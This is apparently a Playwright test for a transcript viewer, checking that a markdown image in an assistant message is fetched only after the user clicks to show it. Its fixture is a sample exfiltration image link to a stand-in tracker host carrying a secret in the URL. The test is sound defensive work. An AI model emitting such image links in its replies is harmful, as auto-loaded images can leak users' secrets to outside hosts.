import { test as base, expect } from '@playwright/test';
import type { Message } from '../../src-shared/sessions.js';
import { serveWithSession, signIn, type ServedSession } from './fixtures.js';

/** 1x1 transparent PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

const IMAGE_MESSAGE: Message = {
  type: 'assistant',
  message: {
    content: [
      {
        type: 'text',
        text: 'Done. ![build status](https://tracker.example/pixel.png?secret=abc) See above.',
      },
    ],
  },
};

const test = base.extend<{ withImage: ServedSession }>({
  withImage: async ({}, use) => {
    const served = await serveWithSession('A transcript with an image', [IMAGE_MESSAGE]);
    await use(served);
    await served.stop();
  },
});

test('an image in a transcript is not fetched until asked for, then loads', async ({ page, withImage }) => {
  const fetched: string[] = [];
  await page.route('https://tracker.example/**', async (route) => {
    fetched.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
  });
  await signIn(page, withImage.url, withImage.email, withImage.password);
  await page.goto(`${withImage.url}/sessions/${withImage.sessionId}`);
  await expect(page.getByText('See above.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'build status' })).toHaveAttribute(
    'href',
    'https://tracker.example/pixel.png?secret=abc',
  );
  await expect(page.getByRole('img', { name: 'build status' })).toHaveCount(0);
  // Nothing was asked of the image's host by showing the transcript.
  await page.waitForLoadState('networkidle');
  expect(fetched).toEqual([]);

  await page.getByRole('button', { name: 'Show image from tracker.example' }).click();
  await expect(page.getByRole('img', { name: 'build status' })).toBeVisible();
  expect(fetched).toEqual(['https://tracker.example/pixel.png?secret=abc']);
});
